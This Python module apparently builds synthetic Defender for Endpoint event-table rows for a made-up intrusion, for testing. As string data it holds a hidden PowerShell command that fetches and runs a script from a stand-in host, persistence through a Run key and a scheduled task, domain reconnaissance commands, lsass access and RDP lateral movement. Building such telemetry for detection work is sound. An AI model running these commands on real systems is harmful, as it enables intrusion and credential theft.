"""Synthetic rows for the event tables: what the incidents' devices would have sent of the story that the alerts tell.

Everything is made up, as in `samples`: a document starts PowerShell, which fetches a program, which makes itself at
home, looks round, and tries another device. Names and types of columns are the documented ones; `ActionType`s are
those that Microsoft's pages and samples show. Around it stand the device's own start, and Defender's collector.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import TYPE_CHECKING

from local.tenant.clock import moment, stamp
from local.tenant.evidence import fleet_name
from local.tenant.shapes import machine_id

if TYPE_CHECKING:
    from collections.abc import Iterable

    from local.tenant.wire import Json

Tables = dict[str, list["Json"]]
_SID = "S-1-5-21-1004336348-1177238915-682003330-1104"
_ALICE = ("CONTOSO", "alice", _SID)
_SYSTEM = ("NT AUTHORITY", "SYSTEM", "S-1-5-18")
_WINDOWS = "C:\\Windows\\System32"
_DROPPED = "C:\\Users\\Public\\updater.exe"
_C2, _C2_NAME = "203.0.113.66", "cdn.updates.example"
_SHELL = "powershell.exe -nop -w hidden -c IEX(iwr http://203.0.113.66/a.ps1)"
_RUN_KEY = f"HKEY_CURRENT_USER\\{_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_SENSE = "C:\\Program Files\\Windows Defender Advanced Threat Protection"
_COLLECTED = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\CollectedData\\synthetic"


@dataclass(frozen=True, slots=True)
class Running:
    """A process of the story; `since` is in seconds from the alert."""

    pid: int
    path: str
    line: str
    since: float
    parent: Running | None = None
    account: tuple[str, str, str] = _SYSTEM
    level: str = "System"

    @property
    def name(self) -> str:
        """The file's name."""
        return self.path.rpartition("\\")[2].rpartition("/")[2]


def _story() -> tuple[Running, ...]:
    start = Running(560, f"{_WINDOWS}\\wininit.exe", "wininit.exe", -7200)
    services = Running(680, f"{_WINDOWS}\\services.exe", "services.exe", -7199, start)
    host = Running(1420, f"{_WINDOWS}\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", -7190, services)
    sense = Running(2316, f"{_SENSE}\\MsSense.exe", f'"{_SENSE}\\MsSense.exe"', -7180, services)
    shell = Running(668 + 4000, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", -3600, None, _ALICE, "Medium")
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe"
    word = Running(668, office, f'"{office}" /n "C:\\Users\\alice\\Downloads\\invoice 4711.docm" /o ""', -540, shell,
                   _ALICE, "Medium")  # fmt: skip
    power = Running(4780, f"{_WINDOWS}\\WindowsPowerShell\\v1.0\\powershell.exe", _SHELL, -240, word, _ALICE, "Medium")
    implant = Running(5120, _DROPPED, f'"{_DROPPED}" -s {_C2_NAME} -k 7f3a', -200, power, _ALICE, "High")
    looks = tuple(
        Running(5200 + place * 12, f"{_WINDOWS}\\{name}", line, -150 + place * 9, implant, _ALICE, "High")
        for place, (name, line) in enumerate(
            [
                ("whoami.exe", "whoami /all"),
                ("net.exe", 'net group "Domain Admins" /domain'),
                ("nltest.exe", "nltest /dclist:contoso.com"),
                ("schtasks.exe", f'schtasks /create /tn "Updater" /sc onlogon /tr "{_DROPPED}"'),
                ("mstsc.exe", "mstsc.exe /v:host2.contoso.com"),
            ]
        )
    )
    order = f'"{_SENSE}\\SenseIR.exe" "OnlineSenseIR" "2316" "synthetic"'
    collector = Running(6904, f"{_SENSE}\\SenseIR.exe", order, 300, sense)
    copying = f'robocopy.exe "C:\\Windows\\Prefetch" "{_COLLECTED}"'
    copies = Running(6990, f"{_WINDOWS}\\Robocopy.exe", copying, 320, collector)
    return (start, services, host, sense, shell, word, power, implant, *looks, collector, copies)


@dataclass(slots=True)
class _Device:
    """One device and the rows that it sends."""

    id: str
    name: str
    alerted: datetime
    tables: Tables = field(default_factory=dict)
    sent: int = 0

    def at(self, seconds: float) -> str:
        return stamp(self.alerted + timedelta(seconds=seconds))

    def send(self, table: str, seconds: float, action: str, by: Running | None = None, **columns: object) -> None:
        self.sent += 1
        head = {"Timestamp": self.at(seconds), "DeviceId": self.id, "DeviceName": self.name, "ActionType": action}
        row = {**head, "ReportId": 1000 + self.sent, **(self._initiating(by) if by else {}), **columns}
        if table == "DeviceEvents":
            row.pop("InitiatingProcessIntegrityLevel", None)
        self.tables.setdefault(table, []).append(row)

    def _initiating(self, by: Running) -> Json:
        domain, account, sid = by.account
        parent = by.parent
        return {
            "InitiatingProcessAccountDomain": domain,
            "InitiatingProcessAccountName": account,
            "InitiatingProcessAccountSid": sid,
            "InitiatingProcessIntegrityLevel": by.level,
            "InitiatingProcessSHA1": _sha1(by.name),
            "InitiatingProcessFileName": by.name,
            "InitiatingProcessFolderPath": by.path.lower(),
            "InitiatingProcessId": by.pid,
            "InitiatingProcessCommandLine": by.line,
            "InitiatingProcessCreationTime": self.at(by.since),
            "InitiatingProcessParentId": parent.pid if parent else 4,
            "InitiatingProcessParentFileName": parent.name if parent else "userinit.exe",
            "InitiatingProcessParentCreationTime": self.at(parent.since if parent else -7300),
        }

    def start(self, process: Running) -> None:
        domain, account, sid = process.account
        self.send(
            "DeviceProcessEvents",
            process.since,
            "ProcessCreated",
            process.parent,
            **_file(process.path),
            ProcessId=process.pid,
            ProcessCommandLine=process.line,
            ProcessIntegrityLevel=process.level,
            ProcessTokenElevation="TokenElevationTypeDefault",
            ProcessCreationTime=self.at(process.since),
            AccountDomain=domain,
            AccountName=account,
            AccountSid=sid,
        )


def of_incident(incident: Json) -> Tables:
    """The rows of an incident's devices: the whole story for those of which a process is told, otherwise none but the
    alerts' own.
    """
    tables: Tables = {}
    for alert in incident["alerts"]:
        named = [each for each in alert["evidence"] if each.get("mdeDeviceId")]
        told = {each["mdeDeviceId"] for each in named if each["@odata.type"].endswith("processEvidence")}
        devices = {each["mdeDeviceId"]: each for each in named if each["@odata.type"].endswith("deviceEvidence")}
        for device_id in sorted({each["mdeDeviceId"] for each in named}):
            name = devices.get(device_id, {}).get("deviceDnsName") or f"{device_id[:8]}.contoso.com"
            device = _Device(device_id, name, moment(alert["createdDateTime"]))
            if device_id in told:
                _tell(device)
            _merge(tables, device.tables)
        _merge(tables, _alert_rows(alert))
    return tables


def _tell(device: _Device) -> None:
    """The story, as the sensor would send it."""
    story = _story()
    for process in story:
        device.start(process)
    by = {process.name.lower(): process for process in story}
    power, implant, word = by["powershell.exe"], by["updater.exe"], by["winword.exe"]
    device.send("DeviceNetworkEvents", -236, "ConnectionSuccess", power, **_remote(_C2, 80, f"http://{_C2}/a.ps1"))
    for beat in range(12):
        device.send(
            "DeviceNetworkEvents", -190 + beat * 15, "ConnectionSuccess", implant, **_remote(_C2, 443, _C2_NAME)
        )
    device.send("DeviceNetworkEvents", -60, "ConnectionSuccess", by["mstsc.exe"], **_remote("192.0.2.4", 3389, ""))
    device.send("DeviceFileEvents", -560, "FileCreated", by["explorer.exe"],
                **_file("C:\\Users\\alice\\Downloads\\invoice 4711.docm"), FileOriginUrl="http://mail.example/invoice",
                FileOriginIP="198.51.100.20")  # fmt: skip
    device.send("DeviceFileEvents", -205, "FileCreated", power, **_file(_DROPPED))
    device.send("DeviceRegistryEvents", -180, "RegistryValueSet", implant, RegistryKey=_RUN_KEY,
                RegistryValueName="Updater", RegistryValueType="String", RegistryValueData=_DROPPED)  # fmt: skip
    device.send("DeviceImageLoadEvents", -235, "ImageLoaded", power, **_file(f"{_WINDOWS}\\amsi.dll"))
    device.send("DeviceImageLoadEvents", -530, "ImageLoaded", word, **_file(f"{_WINDOWS}\\vbe7.dll"))
    device.send("DeviceEvents", -234, "PowerShellCommand", power, AdditionalFields='{"Command":"Invoke-WebRequest"}')
    device.send("DeviceEvents", -110, "OpenProcessApiCall", implant, **_file(f"{_WINDOWS}\\lsass.exe"), ProcessId=720,
                AdditionalFields='{"DesiredAccess":5136}')  # fmt: skip
    device.send("DeviceLogonEvents", -3602, "LogonSuccess", None, LogonType="Interactive", **_account(_ALICE),
                IsLocalAdmin=True, LogonId=345_678, AdditionalFields='{"IsLocalLogon":true}')  # fmt: skip
    elsewhere = _Device(machine_id(fleet_name(3)), fleet_name(3), device.alerted, device.tables, 500)
    elsewhere.send("DeviceLogonEvents", -58, "LogonSuccess", None, LogonType="RemoteInteractive", **_account(_ALICE),
                   IsLocalAdmin=False, RemoteIP="192.0.2.3", RemoteDeviceName="host1")  # fmt: skip
    elsewhere.send("DeviceFileEvents", -40, "FileCreated", None, **_file(_DROPPED))
    earlier = _Device(machine_id(fleet_name(4)), fleet_name(4), device.alerted - timedelta(days=9), device.tables, 700)
    earlier.send("DeviceNetworkEvents", 0, "ConnectionSuccess", None, **_remote(_C2, 443, _C2_NAME))
    signed = {"IsSigned": True, "SignatureType": "Catalog", "Signer": "Microsoft Windows", "IsTrusted": True,
              "Issuer": "Microsoft Windows Production PCA 2011", "IsRootSignerMicrosoft": True}  # fmt: skip
    for process in story:
        facts = {"IsSigned": False, "IsTrusted": False} if process is implant else signed
        row = {"Timestamp": device.at(process.since), "DeviceId": device.id, "DeviceName": device.name}
        certificates = device.tables.setdefault("DeviceFileCertificateInfo", [])
        certificates.append({**row, "SHA1": _sha1(process.name), "ReportId": process.pid, **facts})
    device.tables["DeviceInfo"] = [
        {"Timestamp": device.at(-60), "DeviceId": device.id, "DeviceName": device.name, "OSPlatform": "Windows11",
         "PublicIP": "203.0.113.7", "OnboardingStatus": "Onboarded", "ReportId": 1,
         "LoggedOnUsers": '[{"UserName":"alice","DomainName":"CONTOSO"}]'}
    ]  # fmt: skip


def _alert_rows(alert: Json) -> Tables:
    head = {
        "Timestamp": alert["createdDateTime"],
        "AlertId": alert["id"],
        "Title": alert["title"],
        "Severity": alert["severity"].capitalize(),
        "ServiceSource": "Microsoft Defender for Endpoint",
        "DetectionSource": "EDR",
        "AttackTechniques": str(alert.get("mitreTechniques") or "").replace("'", '"'),
    }
    info = {**head, "Category": alert.get("category") or ""}
    evidence = [
        {**head, "Categories": f'["{info["Category"]}"]', **_entity(each)}
        for each in alert["evidence"]
        if each.get("mdeDeviceId")
    ]
    return {"AlertInfo": [info], "AlertEvidence": evidence}


def _entity(each: Json) -> Json:
    kind = each["@odata.type"].rpartition(".")[2].removesuffix("Evidence")
    file = each.get("imageFile") or each.get("fileDetails") or {}
    account = each.get("userAccount") or {}
    return {
        "EntityType": {"device": "Machine", "user": "User"}.get(kind, kind.capitalize()),
        "EvidenceRole": "Impacted" if kind == "device" else "Related",
        "DeviceId": each["mdeDeviceId"],
        "DeviceName": each.get("deviceDnsName"),
        "FileName": file.get("fileName"),
        "FolderPath": file.get("filePath"),
        "SHA1": file.get("sha1"),
        "SHA256": file.get("sha256"),
        "ProcessCommandLine": each.get("processCommandLine"),
        "AccountName": account.get("accountName"),
        "AccountDomain": account.get("domainName"),
        "AccountSid": account.get("userSid"),
        "AdditionalFields": f'{{"ProcessId":{each["processId"]}}}' if each.get("processId") else None,
    }


def _merge(into: Tables, more: Tables) -> None:
    for table, rows in more.items():
        into.setdefault(table, []).extend(rows)


def _remote(address: str, port: int, url: str) -> Json:
    public = {"RemoteIPType": "Public" if address.startswith("203.") else "Private", "Protocol": "Tcp"}
    return {
        "RemoteIP": address,
        "RemotePort": port,
        "RemoteUrl": url,
        "LocalIP": "192.0.2.3",
        "LocalPort": 51_000,
        **public,
    }


def _account(account: Iterable[str]) -> Json:
    return dict(zip(("AccountDomain", "AccountName", "AccountSid"), account, strict=True))


def _file(path: str) -> Json:
    name = path.rpartition("\\")[2]
    return {"FileName": name, "FolderPath": path, "SHA1": _sha1(name), "SHA256": "", "FileSize": 452_608}


def _sha1(name: str) -> str:
    return hashlib.sha1(name.lower().encode(), usedforsecurity=False).hexdigest()
